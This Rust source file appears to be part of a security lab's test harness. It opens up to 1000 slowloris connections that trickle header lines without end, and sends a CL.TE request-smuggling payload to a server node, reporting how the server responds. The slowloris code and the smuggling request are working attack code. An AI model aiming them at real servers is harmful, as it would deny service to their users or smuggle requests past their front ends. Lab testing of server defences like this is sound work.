//! The lab's attacks, run from the CLI process against the server node: a slowloris flood
//! (connections that send a request head one header line at a time, forever) and a CL.TE
//! request-smuggling attempt over raw TCP.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// Most slowloris connections one run opens.
pub const MAX_SLOWLORIS: usize = 1000;
/// Interval between the header lines a slowloris connection trickles.
const TRICKLE: Duration = Duration::from_millis(200);
/// Most response bytes kept per attack connection.
const KEEP: usize = 4096;

/// What a slowloris run saw.
#[derive(Debug)]
pub struct SlowlorisReport {
    /// Connections asked for.
    pub requested: usize,
    /// Connections that could not be opened.
    pub failed_to_open: usize,
    /// Connections the server closed, with how long after their first byte.
    pub closed_after: Vec<Duration>,
    /// Connections still open when the run gave up.
    pub still_open: usize,
    /// The statuses the server answered the closed ones with (`none` when it just closed).
    pub statuses: BTreeMap<String, usize>,
    /// Latency of an ordinary `GET /` sent while the slow connections were open, or why it
    /// failed.
    pub probe: Result<Duration, String>,
}

enum Outcome {
    NotOpened,
    Closed(Duration, Option<u16>),
    StillOpen,
}

fn status_of(bytes: &[u8]) -> Option<u16> {
    let line = bytes.split(|&b| b == b'\n').next()?;
    let text = std::str::from_utf8(line).ok()?;
    text.strip_prefix("HTTP/1.")?.get(2..5)?.parse().ok()
}

async fn slow_connection(target: SocketAddr, n: usize, give_up: Duration) -> Outcome {
    let Ok(Ok(mut tcp)) =
        tokio::time::timeout(Duration::from_secs(2), TcpStream::connect(target)).await
    else {
        return Outcome::NotOpened;
    };
    let start = Instant::now();
    let deadline = tokio::time::Instant::now() + give_up;
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    if tcp
        .write_all(format!("GET /?slow={n} HTTP/1.1\r\nHost: lab\r\n").as_bytes())
        .await
        .is_err()
    {
        return Outcome::Closed(start.elapsed(), None);
    }
    let mut line = 0u64;
    let mut trickle = tokio::time::interval(TRICKLE);
    trickle.tick().await;
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => return Outcome::StillOpen,
            _ = trickle.tick() => {
                line += 1;
                // One more header line, never the blank line that would end the head.
                let header = format!("X-Slow-{line}: {}\r\n", "a".repeat(8));
                if tcp.write_all(header.as_bytes()).await.is_err() {
                    return Outcome::Closed(start.elapsed(), status_of(&got));
                }
            }
            r = tcp.read(&mut buf) => match r {
                Ok(0) | Err(_) => return Outcome::Closed(start.elapsed(), status_of(&got)),
                Ok(k) => {
                    if got.len() < KEEP {
                        got.extend_from_slice(&buf[..k]);
                    }
                }
            },
        }
    }
}

/// One ordinary request on a fresh connection; its latency.
pub async fn probe(target: SocketAddr) -> Result<Duration, String> {
    let start = Instant::now();
    let mut tcp = TcpStream::connect(target)
        .await
        .map_err(|e| format!("connect: {e}"))?;
    tcp.write_all(b"GET / HTTP/1.1\r\nHost: lab\r\nConnection: close\r\n\r\n")
        .await
        .map_err(|e| format!("write: {e}"))?;
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    loop {
        match tcp.read(&mut buf).await {
            Ok(0) => break,
            Ok(k) if got.len() < KEEP => got.extend_from_slice(&buf[..k]),
            Ok(_) => {}
            Err(e) => return Err(format!("read: {e}")),
        }
    }
    match status_of(&got) {
        Some(200) => Ok(start.elapsed()),
        Some(s) => Err(format!("status {s}")),
        None => Err("no response".into()),
    }
}

/// Opens `count` slowloris connections (at most [`MAX_SLOWLORIS`]) to `target` and waits up to
/// `give_up` for the server to close them; meanwhile checks that an ordinary request is served.
pub async fn slowloris(target: SocketAddr, count: usize, give_up: Duration) -> SlowlorisReport {
    let count = count.clamp(1, MAX_SLOWLORIS);
    let tasks: Vec<_> = (0..count)
        .map(|n| tokio::spawn(slow_connection(target, n, give_up)))
        .collect();
    // Let the flood settle in before checking the server still answers others.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let probe = tokio::time::timeout(Duration::from_secs(5), probe(target))
        .await
        .unwrap_or_else(|_| Err("no answer within 5 s".into()));
    let mut report = SlowlorisReport {
        requested: count,
        failed_to_open: 0,
        closed_after: Vec::new(),
        still_open: 0,
        statuses: BTreeMap::new(),
        probe,
    };
    for t in tasks {
        match t.await {
            Ok(Outcome::NotOpened) | Err(_) => report.failed_to_open += 1,
            Ok(Outcome::StillOpen) => report.still_open += 1,
            Ok(Outcome::Closed(after, status)) => {
                report.closed_after.push(after);
                let key = status.map_or("none".to_string(), |s| s.to_string());
                *report.statuses.entry(key).or_insert(0) += 1;
            }
        }
    }
    report.closed_after.sort();
    report
}

/// The CL.TE smuggling attempt: `Content-Length` and `Transfer-Encoding: chunked` together,
/// with a `G` after the chunked terminator that a front end trusting Content-Length would
/// leave to prefix the next request.
pub const CL_TE: &[u8] = b"POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG";

/// What the server did with [`CL_TE`].
#[derive(Debug)]
pub struct SmuggleReport {
    /// The response's status line.
    pub status_line: String,
    /// Its status code.
    pub status: Option<u16>,
    /// How many responses came back (one: nothing after the rejection was parsed).
    pub responses: usize,
    /// Whether the server closed the connection after answering.
    pub closed: bool,
    /// How long until the close (or until the give-up).
    pub elapsed: Duration,
}

/// Sends [`CL_TE`] to `target` and reads until the server closes or 5 s pass.
pub async fn smuggle(target: SocketAddr) -> std::io::Result<SmuggleReport> {
    let start = Instant::now();
    let mut tcp = TcpStream::connect(target).await?;
    tcp.write_all(CL_TE).await?;
    let mut got = Vec::new();
    let mut buf = [0u8; 1024];
    let closed = loop {
        match tokio::time::timeout(Duration::from_secs(5), tcp.read(&mut buf)).await {
            Err(_) => break false,
            Ok(Ok(0)) | Ok(Err(_)) => break true,
            Ok(Ok(k)) if got.len() < KEEP => got.extend_from_slice(&buf[..k]),
            Ok(Ok(_)) => {}
        }
    };
    let text = String::from_utf8_lossy(&got);
    Ok(SmuggleReport {
        status_line: text.lines().next().unwrap_or("").to_string(),
        status: status_of(&got),
        responses: text.matches("HTTP/1.1 ").count(),
        closed,
        elapsed: start.elapsed(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn status_codes_are_read_from_status_lines_only() {
        assert_eq!(status_of(b"HTTP/1.1 408 Request Timeout\r\n"), Some(408));
        assert_eq!(status_of(b"HTTP/1.0 200 OK"), Some(200));
        assert_eq!(status_of(b"garbage"), None);
        assert_eq!(status_of(b""), None);
    }
}
